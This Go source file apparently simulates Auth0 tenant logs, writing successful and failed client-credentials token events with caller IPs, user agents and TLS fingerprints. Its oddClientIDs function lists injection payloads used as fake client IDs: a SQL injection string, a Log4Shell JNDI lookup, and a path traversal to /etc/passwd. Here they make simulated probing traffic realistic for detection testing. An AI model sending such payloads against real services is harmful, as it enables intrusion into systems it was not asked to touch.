package auth0sim

import (
	"cmp"
	"math/rand/v2"
	"strings"
)

// render fills the parts of the machine's token logs that never change.
func (m *machine) render(domain string, r *rand.Rand) {
	m.head = field(m.head, "connection_id", "")
	m.head = field(m.head, "client_id", m.id)
	m.head = field(m.head, "client_name", m.name)
	m.tail = field(m.tail, "hostname", domain)
	m.tail = append(m.tail, `,"user_id":"","user_name":""`...)
	if chance(r, 0.1) {
		m.tail = field(m.tail, "organization_id", "org_"+base62(r, 16))
		m.tail = field(m.tail, "organization_name", "wholesale")
	}
	m.tail = field(m.tail, "audience", m.api.audience)
	m.tail = fieldJSON(m.tail, "scope", m.scopeJSON())
}

// scopeJSON is a string for most machines, an array or null for some.
func (m *machine) scopeJSON() string {
	switch {
	case m.index%31 == 5:
		return "null"
	case m.index%9 == 4:
		return `["` + strings.Join(m.scopes, `","`) + `"]`
	default:
		return `"` + strings.Join(m.scopes, " ") + `"`
	}
}

// appendToken writes seccft from one of the machine's own addresses.
func (t *Tenant) appendToken(dst []byte, r *rand.Rand, s *stamp, m *machine) []byte {
	return t.appendTokenFrom(dst, r, s, m, &m.callers[r.IntN(len(m.callers))], "")
}

// appendTokenFrom writes seccft: nearly always in the newest shape, sometimes
// without what older tenants do not send. Without a jti it makes one up.
func (t *Tenant) appendTokenFrom(dst []byte, r *rand.Rand, s *stamp, m *machine, c *caller, jti string) []byte {
	shape := r.IntN(100)
	dst = open(dst, s, "seccft")
	if shape == 99 {
		dst = field(dst, "description", "")
	} else {
		dst = field(dst, "description", "Client Credentials for Access Token")
	}
	dst = append(dst, m.head...)
	dst = appendCaller(dst, c, shape < 97)
	if shape < 98 {
		dst = appendTokenDetails(dst, r, m, jti)
	}
	dst = append(dst, m.tail...)
	if shape < 95 {
		dst = appendTrace(dst, r, c)
	}
	return t.closing(dst, s, shape != 98)
}

func appendCaller(dst []byte, c *caller, full bool) []byte {
	dst = field(dst, "ip", c.ip)
	if full {
		dst = field(dst, "client_ip", c.ip)
	}
	return fieldQuoted(dst, "user_agent", c.agent)
}

func appendTokenDetails(dst []byte, r *rand.Rand, m *machine, jti string) []byte {
	dst = append(dst, `,"details":{"actions":{"executions":[`...)
	if m.api.action {
		dst = append(dst, '"')
		dst = appendBase64(dst, r, 52)
		dst = append(dst, `MjAyNTA4MDE="`...)
	}
	dst = append(dst, `]},"access_token_jti":"`...)
	if jti == "" {
		dst = appendHex(dst, r, 32)
	}
	dst = append(dst, jti...)
	return append(dst, `"}`...)
}

// appendTrace writes what tells one connection and one request from another.
func appendTrace(dst []byte, r *rand.Rand, c *caller) []byte {
	if c.sdk != "" {
		dst = fieldJSON(dst, "auth0_client", c.sdk)
	}
	if c.ja3 != "" {
		dst = append(dst, `,"security_context":{"ja3":"`...)
		dst = append(dst, c.ja3...)
		dst = append(dst, `","ja4":"`...)
		dst = append(dst, c.ja4...)
		dst = append(dst, `"}`...)
	}
	dst = append(dst, `,"references":{"trace_id":"`...)
	dst = appendHex(dst, r, 32)
	dst = append(dst, `"}`...)
	if c.place.json != "" {
		dst = fieldJSON(dst, "location_info", c.place.json)
	}
	return dst
}

// refusal is an exchange that failed, of a client that may not exist.
type refusal struct {
	kind        string // default feccft
	user        string // as it was given
	description string
	clientID    string
	clientName  string // JSON: a string or null
	audience    string
	details     string // JSON; left out where empty
	caller      *caller
	full        bool // the newest shape
}

// appendRefusal writes feccft, or another kind. Whatever of it the caller chose is quoted.
func (t *Tenant) appendRefusal(dst []byte, r *rand.Rand, s *stamp, f *refusal) []byte {
	dst = open(dst, s, cmp.Or(f.kind, "feccft"))
	dst = fieldQuoted(dst, "description", f.description)
	dst = field(dst, "connection_id", "")
	dst = fieldQuoted(dst, "client_id", f.clientID)
	dst = fieldJSON(dst, "client_name", f.clientName)
	dst = appendCaller(dst, f.caller, f.full)
	if f.details != "" {
		dst = fieldJSON(dst, "details", f.details)
	}
	dst = field(dst, "hostname", t.domain)
	dst = append(dst, `,"user_id":""`...)
	dst = fieldQuoted(dst, "user_name", f.user)
	dst = fieldQuoted(dst, "audience", f.audience)
	dst = append(dst, `,"scope":null`...)
	if f.full {
		dst = appendTrace(dst, r, f.caller)
	}
	return t.closing(dst, s, f.full)
}

// appendTokenRefused writes an ordinary failure of a machine at home.
func (t *Tenant) appendTokenRefused(dst []byte, r *rand.Rand, s *stamp, m *machine) []byte {
	f := refusal{
		description: "Unauthorized", clientID: m.id, clientName: quote(m.name), audience: m.api.audience,
		caller: &m.callers[r.IntN(len(m.callers))], full: !chance(r, 0.2),
	}
	switch r.IntN(8) {
	case 0:
		f.audience = t.apis[1].audience + "-v0"
		f.description = "Service not enabled within domain: " + f.audience
	case 1:
		f.audience = pick(r, t.apis).audience
		f.description = `Client is not authorized to access "` + f.audience + `". You need to create a "client-grant" associated to this API.`
	case 2:
		f.description = "Failed client authentication"
		f.details = `{"client_authentication_error":"'exp' claim must specify a time no more than 5 minutes after 'iat'"}`
	}
	return t.appendRefusal(dst, r, s, &f)
}

// appendGuess writes a failure from a strange network.
func (t *Tenant) appendGuess(dst []byte, r *rand.Rand, s *stamp, a *action) []byte {
	net := t.strange[a.actor]
	c := caller{ip: net.host(1 + int(s.at.Unix()/3600%200)), agent: pick(r, guessers()), place: net.place}
	f := refusal{description: "Unauthorized", clientName: "null", audience: t.apis[0].audience, caller: &c, full: chance(r, 0.7)}
	if a.detail > 0 {
		m := t.machines[a.detail-1]
		f.clientID, f.clientName = m.id, quote(m.name)
	} else {
		f.clientID = base62(r, 32)
		if chance(r, 0.1) {
			f.clientID = pick(r, oddClientIDs())
		}
	}
	return t.appendRefusal(dst, r, s, &f)
}

func guessers() []string {
	return []string{"python-requests/2.31.0", "curl/7.88.1", "Go-http-client/1.1", "Mozilla/5.0 (compatible; scan/1.0)", "unknown", ""}
}

// oddClientIDs are what people send who try things.
func oddClientIDs() []string {
	return []string{"", "test", "' OR '1'='1", "${jndi:ldap://192.0.2.1/a}", "../../etc/passwd", "\u0000\"\\\n", strings.Repeat("A", 300)}
}

// appendRetired writes a failure of a client that is gone.
func (t *Tenant) appendRetired(dst []byte, r *rand.Rand, s *stamp, a *action) []byte {
	old := &t.retired[a.actor]
	return t.appendRefusal(dst, r, s, &refusal{
		description: "Unauthorized", clientID: old.id, clientName: `""`, audience: t.apis[2].audience,
		details: `{}`, caller: &old.caller, full: true,
	})
}
